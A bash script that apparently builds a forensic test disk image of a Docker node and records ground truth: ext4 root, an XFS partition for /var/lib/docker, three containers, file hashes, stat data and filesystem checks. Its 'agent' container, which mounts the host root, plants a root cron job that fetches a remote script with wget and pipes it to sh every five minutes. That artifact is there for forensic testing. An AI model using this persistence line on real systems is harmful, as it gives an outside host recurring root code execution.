#!/bin/bash
# Build test image "d": GPT disk with two partitions. p1: ext4, the node's root file system
# (/etc, /root, /var/log, an empty /var/lib/docker mount point); p2: XFS that the node mounts at
# /var/lib/docker, so Docker's data root is a file system of its own (its top level holds
# containers/, image/, overlay2/, volumes/, ...). Real dockerd 20.10 (overlay2, json-file logs)
# chrooted in p1 with p2 mounted inside the chroot; Docker's own ground truth.
#
# usage: node-d.sh OUTDIR        (called by scripts/make-testimages.sh)
set -euo pipefail
HERE=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=lib.sh
. "$HERE/lib.sh"

OUT=$(realpath -m "$1")
T="$OUT/truth"
NAME=node-d
NODE_HOSTNAME=$NAME
P1_START=2048                          # sectors (1 MiB)
P1_MIB=128
P1_SECTORS=$((P1_MIB * 2048))
P2_START=$((P1_START + P1_SECTORS))    # right after p1
P2_MIB=320                             # mkfs.xfs (6.1) needs >= 300 MB
P2_SECTORS=$((P2_MIB * 2048))
DISK_MIB=$((1 + P1_MIB + P2_MIB + 1))  # + 1 MiB at the end for the backup GPT
P1_OFF=$((P1_START * 512)); P1_LEN=$((P1_SECTORS * 512))
P2_OFF=$((P2_START * 512)); P2_LEN=$((P2_SECTORS * 512))
# the node path where p2 is mounted (Docker's default data root)
P2_MNT=/var/lib/docker

make_workdir
rm -rf "$OUT"; mkdir -p "$OUT"; truth_dirs
CONTAINERS_TSV="$T/containers.tsv"
printf 'name\tid\tstate_at_imaging\tremoved\thow_removed\n' >"$CONTAINERS_TSV"
: >"$T/files.sha256"; : >"$T/removed-files.sha256"

# both file systems are frozen for the snapshot: p2 (the inner mount) first
FROZEN2=""
freeze_node() {
    sync
    fsfreeze -f "$M$P2_MNT"; FROZEN2=1
    fsfreeze -f "$M"; FROZEN=1
    push_cleanup 'thaw_node'
}
thaw_node() {
    if [ -n "$FROZEN" ]; then fsfreeze -u "$M"; FROZEN=""; fi
    if [ -n "$FROZEN2" ]; then fsfreeze -u "$M$P2_MNT"; FROZEN2=""; fi
}

# ---------------------------------------------------------------------------------------------
log "disk: ${DISK_MIB} MiB, GPT, p1 ext4 at $P1_OFF, p2 XFS at $P2_OFF"
DISK="$W/disk.raw"
truncate -s "${DISK_MIB}M" "$DISK"
sfdisk -q "$DISK" <<EOF
label: gpt
start=$P1_START, size=$P1_SECTORS, type=0FC63DAF-8483-4772-8E79-3D69D8477DE4, name="node-root"
start=$P2_START, size=$P2_SECTORS, type=0FC63DAF-8483-4772-8E79-3D69D8477DE4, name="docker-data"
EOF
loop_attach "$DISK" "$P1_OFF" "$P1_LEN"; LOOP1=$LOOPDEV
loop_attach "$DISK" "$P2_OFF" "$P2_LEN"; LOOP2=$LOOPDEV
mkfs.ext4 -q -T default -L node-root "$LOOP1"
mkfs.xfs -q -L docker "$LOOP2"
FS1_UUID=$(blkid -s UUID -o value "$LOOP1")
FS2_UUID=$(blkid -s UUID -o value "$LOOP2")
M="$W/mnt"; mkdir -p "$M"
mount "$LOOP1" "$M"
push_cleanup 'unmount_node'

node_skeleton
chroot_mounts
first_write_in_chroot
populate_host "$NAME" "$FS1_UUID" ext4 "/dev/nvme0n1p1"
cat >>"$M/etc/fstab" <<EOF
# Docker's data on its own disk partition (/dev/nvme0n1p2)
UUID=$FS2_UUID	$P2_MNT	xfs	defaults,nofail	0	2
EOF
cat >"$M/etc/docker/daemon.json" <<'EOF'
{
  "storage-driver": "overlay2",
  "log-driver": "json-file",
  "log-opts": {
    "max-size": "10m",
    "max-file": "3"
  }
}
EOF
cp "$M/etc/fstab" "$W/fstab.copy"
age_host
# the empty mount point on p1 (populate_host made it, mode 0710), then p2 over it
mount "$LOOP2" "$M$P2_MNT"
mountpoint -q "$M$P2_MNT" || die "p2 is not mounted at $P2_MNT"
dockerd_start
ENGINE_VERSION=$(docker version -f '{{.Server.Version}}')
CLI_VERSION=$(docker version -f '{{.Client.Version}}')
CONTAINERD_VERSION=$(containerd --version | awk '{print $3}')
RUNC_VERSION=$(runc --version | awk 'NR == 1 {print $3}')
[ "$(stat -f -c %T "$M$P2_MNT/containers")" = xfs ] || die "containers/ is not on the XFS"

# ---------------------------------------------------------------------------------------------
log "images"
make_base_tar "$W/base.tar"
docker import -m "husk base image (busybox-static)" \
    -c 'ENV PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin' \
    -c 'CMD ["/bin/sh"]' "$W/base.tar" husk/base:1.0 >/dev/null
sleep 1
cp -a "$HERE/web-image" "$W/web-ctx"
find "$W/web-ctx" -exec touch -h -d '2025-02-01 12:00:00 UTC' {} +
docker build -q -t husk/web:2.3 "$W/web-ctx" >/dev/null
sleep 2

# ---------------------------------------------------------------------------------------------
log "container init (exits 0)"
read -r -d '' INIT_SH <<'EOF' || true
echo "init: preparing config"
mkdir -p /etc/app
printf 'listen=127.0.0.1:8080\nworkers=2\n' > /etc/app/runtime.conf
echo 'HUSK-D-INIT' > /init-done
echo "init: warning: no TLS material, continuing" >&2
echo "init: done"
EOF
docker run --name init --network none --label app=web --label role=init husk/base:1.0 \
    /bin/sh -c "$INIT_SH" >/dev/null 2>&1
sleep 2

log "container web (running, whiteout + opaque dir)"
read -r -d '' WEB_SH <<'EOF' || true
echo "web: husk-web 2.3 starting on node-d"
i=1
while [ $i -le 120 ]; do
  printf 'web: 10.40.0.%d - - "GET /status?n=%04d HTTP/1.1" 200 17\n' $((i % 250 + 1)) $i
  [ $((i % 40)) -eq 0 ] && echo "web: error: slow disk on request $i" >&2
  i=$((i + 1))
done
rm -f /srv/www/index.html
rm -rf /opt/legacy
mkdir -p /opt/legacy
printf 'HUSK-D-OPAQUE new legacy config\n' > /opt/legacy/legacy.conf
echo '<?php echo "HUSK-D-DROP"; ?>' > /srv/www/drop.php
echo "web: ready"
exec httpd -f -p 127.0.0.1:8080 -h /srv/www
EOF
docker run -d --name web --hostname web-d1 --network none --label app=web --label tier=frontend \
    husk/web:2.3 /bin/sh -c "$WEB_SH" >/dev/null
wait_log web "web: ready" 60
sleep 2

log "container agent (running, -v /:/host, writes a host cron job onto p1)"
read -r -d '' AGENT_SH <<'EOF' || true
echo "agent: node agent starting"
printf '*/5 * * * * root /bin/sh -c "wget -q -O- http://198.51.100.23/j.sh | sh" >/dev/null 2>&1\n' > /host/etc/cron.d/job
echo "agent: host is $(cat /host/etc/hostname)"
echo "agent: docker data on host: $(ls /host/var/lib/docker | tr '\n' ' ')"
echo 'HUSK-D-AGENT state' > /tmp/agent.state
echo "agent: cron job installed on host" >&2
echo "agent: ready"
exec sleep 86400
EOF
docker run -d --name agent --network none --label app=agent --restart unless-stopped \
    -v /:/host husk/base:1.0 /bin/sh -c "$AGENT_SH" >/dev/null
wait_log agent "agent: ready" 30
[ -f "$M/etc/cron.d/job" ] || die "agent did not write /etc/cron.d/job on p1"
sleep 2

# ---------------------------------------------------------------------------------------------
log "ground truth at imaging time"
CTRS=(init web agent)
declare -A CID
for n in "${CTRS[@]}"; do
    capture_container "$n"
    record_container "$n" "$(cid "$n")" "$(docker inspect -f '{{.State.Status}}' "$n")" no ""
    CID[$n]=$(cid "$n")
done
capture_ps
capture_images
capture_volumes
capture_engine_info

WEB_UP=$(upper_of web); INIT_UP=$(upper_of init); AGENT_UP=$(upper_of agent)
{
    echo "# well-known node paths of this image ($P2_MNT is partition 2, XFS)"
    printf 'web.upper\t%s\n' "$WEB_UP"
    printf 'init.upper\t%s\n' "$INIT_UP"
    printf 'agent.upper\t%s\n' "$AGENT_UP"
    printf 'agent.host_cron_job\t/etc/cron.d/job\n'
    printf 'p2.mountpoint\t%s\n' "$P2_MNT"
} >"$T/paths.tsv"

log "file hashes"
sha_node "$T/files.sha256" /etc/hostname /etc/passwd /etc/shadow /etc/fstab /etc/docker/daemon.json \
    /etc/cron.d/job /etc/cron.d/docker-prune
for n in "${CTRS[@]}"; do sha_upper "$n" "$T/files.sha256"; done
for n in "${CTRS[@]}"; do
    sha_node "$T/files.sha256" "$P2_MNT/containers/${CID[$n]}/${CID[$n]}-json.log"
done

# the mount point directory as p1 alone has it (hidden under the XFS on the node)
mkdir -p "$W/p1view"
mount --bind "$M" "$W/p1view"
push_cleanup "umount $W/p1view 2>/dev/null"
(cd "$W/p1view" && TZ=UTC stat --printf '%n\t%i\t%f\t%h\t%u\t%g\t%s\t%t\t%T\t%x\t%y\t%z\t%w\n' ".$P2_MNT") |
    sed 's#^\./#/#' >"$T/stat-p1-mountpoint.tsv"
[ -z "$(ls -A "$W/p1view$P2_MNT")" ] || die "the mount point on p1 is not empty"
umount "$W/p1view"

# ---------------------------------------------------------------------------------------------
log "snapshot (fsfreeze of both file systems + copy while dockerd runs)"
sleep 1
freeze_node
date -u +%Y-%m-%dT%H:%M:%SZ >"$T/imaging-time.txt"
STAT_PATHS=(/ /bin /var/run /etc/hostname /etc/passwd /etc/fstab /etc/cron.d /etc/cron.d/job
    /etc/docker/daemon.json /var/log/docker.log /var /var/lib
    "$P2_MNT" "$P2_MNT/containers" "$P2_MNT/image" "$P2_MNT/overlay2" "$P2_MNT/volumes")
for n in "${CTRS[@]}"; do
    STAT_PATHS+=("$P2_MNT/containers/${CID[$n]}" "$P2_MNT/containers/${CID[$n]}/config.v2.json"
        "$P2_MNT/containers/${CID[$n]}/hostconfig.json" "$P2_MNT/containers/${CID[$n]}/${CID[$n]}-json.log")
done
STAT_PATHS+=("$WEB_UP" "$WEB_UP/srv/www" "$WEB_UP/srv/www/index.html" "$WEB_UP/srv/www/drop.php"
    "$WEB_UP/opt" "$WEB_UP/opt/legacy" "$WEB_UP/opt/legacy/legacy.conf"
    "$INIT_UP/init-done" "$INIT_UP/etc/app/runtime.conf" "$AGENT_UP/tmp/agent.state" "$AGENT_UP/host")
stat_node "${STAT_PATHS[@]}"
: >"$T/xattrs.tsv"; : >"$T/xattrs.getfattr.txt"
xattr_node "$WEB_UP/opt/legacy" "$WEB_UP/opt" "$WEB_UP/srv/www" "$WEB_UP/srv/www/index.html"
cp --sparse=always "$DISK" "$W/snap.raw"
thaw_node
log "snapshot taken"

dockerd_stop
unmount_node
loop_detach "$LOOP2"
loop_detach "$LOOP1"

# the same truth with paths relative to p2's own root (as an offline reader of p2 sees them):
# every line whose node path is $P2_MNT or below it, with that prefix removed ($P2_MNT -> /)
p2rel() { # column-1 TSV in -> p2-relative TSV out
    awk -F'\t' -v OFS='\t' -v p="$P2_MNT" '
        $1 == p { $1 = "/"; print; next }
        index($1, p "/") == 1 { $1 = substr($1, length(p) + 1); print }'
}
p2rel <"$T/stat.tsv" >"$T/stat-p2.tsv"
p2rel <"$T/xattrs.tsv" >"$T/xattrs-p2.tsv"
awk -v p="$P2_MNT" 'index($0, "  " p "/") { i = index($0, "  "); print substr($0, 1, i + 1) substr($0, i + 2 + length(p)) }' \
    "$T/files.sha256" >"$T/files-p2.sha256"
grep -v '^#' "$T/paths.tsv" | awk -F'\t' -v OFS='\t' -v p="$P2_MNT" \
    'index($2, p "/") == 1 { $2 = substr($2, length(p) + 1); print }' >"$T/paths-p2.tsv"

# ---------------------------------------------------------------------------------------------
. "$HERE/finish.sh"
finish_disk_common "$W/snap.raw"

log "layout and file-system checks"
RAW="$W/snap.raw"
loop_attach "$RAW" "$P1_OFF" "$P1_LEN" ro; S1=$LOOPDEV
loop_attach "$RAW" "$P2_OFF" "$P2_LEN" ro; S2=$LOOPDEV
gpt_field() { sfdisk --part-"$1" "$RAW" "$2" 2>/dev/null; }
{
    echo "# sfdisk --dump disk.raw"
    sfdisk --dump "$RAW" | sed "s#$RAW#disk.raw#g"
    echo
    echo "# mmls disk.raw"
    mmls "$RAW"
    echo
    echo "disk_size_bytes=$(stat -c %s "$RAW")"
    echo "partition_table=gpt"
    echo "disk_guid=$(sfdisk --disk-id "$RAW")"
    echo "partition_count=2"
    for i in 1 2; do
        o=P${i}_OFF; l=P${i}_LEN
        echo "partition${i}_offset_bytes=${!o}"
        echo "partition${i}_offset_sectors=$((${!o} / 512))"
        echo "partition${i}_length_bytes=${!l}"
        echo "partition${i}_length_sectors=$((${!l} / 512))"
        echo "partition${i}_name=$(gpt_field label $i)"
        echo "partition${i}_type_guid=$(gpt_field type $i)"
        echo "partition${i}_guid=$(gpt_field uuid $i)"
    done
    echo "fs1_partition=1"
    echo "fs1_offset_bytes=$P1_OFF"
    echo "fs1_type=ext4"
    echo "fs1_uuid=$(blkid -s UUID -o value "$S1")"
    echo "fs1_label=$(blkid -s LABEL -o value "$S1")"
    echo "fs1_block_size=$(dumpe2fs -h "$S1" 2>/dev/null | awk -F: '/^Block size/ {gsub(/[ \t]/,"",$2); print $2}')"
    echo "fs1_inode_size=$(dumpe2fs -h "$S1" 2>/dev/null | awk -F: '/^Inode size/ {gsub(/[ \t]/,"",$2); print $2}')"
    echo "fs1_node_mountpoint=/"
    echo "fs2_partition=2"
    echo "fs2_offset_bytes=$P2_OFF"
    echo "fs2_type=xfs"
    echo "fs2_uuid=$(blkid -s UUID -o value "$S2")"
    echo "fs2_label=$(blkid -s LABEL -o value "$S2")"
    echo "fs2_block_size=$(xfs_db -r -c 'sb 0' -c 'p blocksize' "$S2" | awk '{print $3}')"
    echo "fs2_inode_size=$(xfs_db -r -c 'sb 0' -c 'p inodesize' "$S2" | awk '{print $3}')"
    echo "fs2_node_mountpoint=$P2_MNT"
    echo
    echo "# dumpe2fs -h (partition 1)"
    dumpe2fs -h "$S1" 2>/dev/null
    echo
    echo "# e2fsck -fn (partition 1, read-only check of the snapshot)"
    e2fsck -fn "$S1" 2>&1 || true
    echo
    echo "# xfs_info (partition 2)"
    xfs_info "$S2" | sed "s#$S2#<partition 2>#"
    echo
    echo "# xfs_db -r -c 'sb 0' -c print (partition 2)"
    xfs_db -r -c 'sb 0' -c print "$S2"
    echo
    echo "# xfs_repair -n (partition 2 of the snapshot, read-only loop device)"
    xfs_repair -n "$S2" 2>&1 || echo "(xfs_repair -n exit status $?)"
} >"$T/layout.txt"
[ "$(sed -n 's/^fs1_uuid=//p' "$T/layout.txt")" = "$FS1_UUID" ] || die "fs1 UUID differs"
[ "$(sed -n 's/^fs2_uuid=//p' "$T/layout.txt")" = "$FS2_UUID" ] || die "fs2 UUID differs"
e2fsck -fn "$S1" >"$W/e2fsck.txt" 2>&1 || { cat "$W/e2fsck.txt" >&2; die "e2fsck -fn on p1 is not clean"; }

# XFS: a writable copy of p2, log replayed by a mount, then xfs_repair -n
dd if="$RAW" of="$W/p2copy.img" bs=1M skip=$((P2_OFF / 1048576)) count=$((P2_LEN / 1048576)) \
    conv=sparse status=none
loop_attach "$W/p2copy.img" 0 "$P2_LEN"; C2=$LOOPDEV
mkdir -p "$W/p2mnt"
mount -t xfs "$C2" "$W/p2mnt"; umount "$W/p2mnt"
{
    echo
    echo "# xfs_repair -n on a copy of partition 2 after a mount + umount (log replayed)"
    xfs_repair -n "$C2" 2>&1 || echo "(xfs_repair -n exit status $?)"
} >>"$T/layout.txt"
xfs_repair -n "$C2" >"$W/xfs-repair-copy.txt" 2>&1 ||
    { cat "$W/xfs-repair-copy.txt" >&2; die "xfs_repair -n not clean on the replayed copy of p2"; }
loop_detach "$C2"; rm -f "$W/p2copy.img"

# both file systems mounted read-only as on the node: every file of files.sha256 must match;
# and p2 alone: files-p2.sha256
mkdir -p "$W/chk"
mount -o ro,noload "$S1" "$W/chk"
push_cleanup "umount -R $W/chk 2>/dev/null"
[ -z "$(ls -A "$W/chk$P2_MNT")" ] || die "p1's $P2_MNT is not empty on the snapshot"
mount -o ro,norecovery "$S2" "$W/chk$P2_MNT"
(cd "$W/chk" && sha256sum -c <(sed 's#  /#  ./#' "$T/files.sha256")) >"$W/sha-check.txt" 2>&1 ||
    { cat "$W/sha-check.txt" >&2; die "files.sha256 does not match the snapshot"; }
(cd "$W/chk$P2_MNT" && sha256sum -c <(sed 's#  /#  ./#' "$T/files-p2.sha256")) >"$W/sha-check-p2.txt" 2>&1 ||
    { cat "$W/sha-check-p2.txt" >&2; die "files-p2.sha256 does not match p2 of the snapshot"; }
n=$(ls "$W/chk$P2_MNT/containers" | wc -l)
[ "$n" -eq 3 ] || die "expected 3 container directories on p2, found $n"
{
    echo "# p1 mounted ro,noload and p2 mounted ro,norecovery at <p1>$P2_MNT (as on the node)"
    echo "# ls -A of p2's root"
    ls -A "$W/chk$P2_MNT"
    echo
    echo "# ls -l containers/ on p2"
    ls -l "$W/chk$P2_MNT/containers" | sed "s#$W/chk##"
    echo
    echo "# sha256sum -c truth/files.sha256 (node paths, both file systems)"
    cat "$W/sha-check.txt"
    echo
    echo "# sha256sum -c truth/files-p2.sha256 (paths relative to p2's root)"
    cat "$W/sha-check-p2.txt"
} >"$T/xfs-sanity.txt"
umount "$W/chk$P2_MNT"; umount "$W/chk"
loop_detach "$S2"; loop_detach "$S1"

log "sanity checks (TSK)"
mmls "$RAW" >"$W/mmls.txt"
grep -q "^[0-9]*:  *[0-9]*  *0*$P1_START " "$W/mmls.txt" || { cat "$W/mmls.txt" >&2; die "mmls does not show p1"; }
grep -q "^[0-9]*:  *[0-9]*  *0*$P2_START " "$W/mmls.txt" || { cat "$W/mmls.txt" >&2; die "mmls does not show p2"; }
fls -r -p -o "$P1_START" "$RAW" >"$W/fls1.txt"
grep -q '^r/r [0-9]*:	etc/cron.d/job$' "$W/fls1.txt" || die "fls on p1 does not list etc/cron.d/job"
grep -q "${P2_MNT#/}/." "$W/fls1.txt" && die "fls on p1 lists files below $P2_MNT"
rc=0; fls -r -p -o "$P2_START" "$RAW" >"$W/fls2.txt" 2>&1 || rc=$?
{
    echo "# mmls disk.raw"
    cat "$W/mmls.txt"
    echo
    echo "# fls -r -p -o $P1_START disk.raw (p1, ext4): $(wc -l <"$W/fls1.txt") entries; cron.d and var/lib lines:"
    grep -E '	etc/cron.d/|	var/lib' "$W/fls1.txt"
    echo
    echo "# fls -r -p -o $P2_START disk.raw (p2, XFS): exit status $rc ($(fls -V | head -n 1) has no XFS support)"
    head -n 5 "$W/fls2.txt"
} >"$T/tsk-sanity.txt"

. "$HERE/readme-d.sh"
log "node-d done: $(du -sh "$OUT" | cut -f1)"
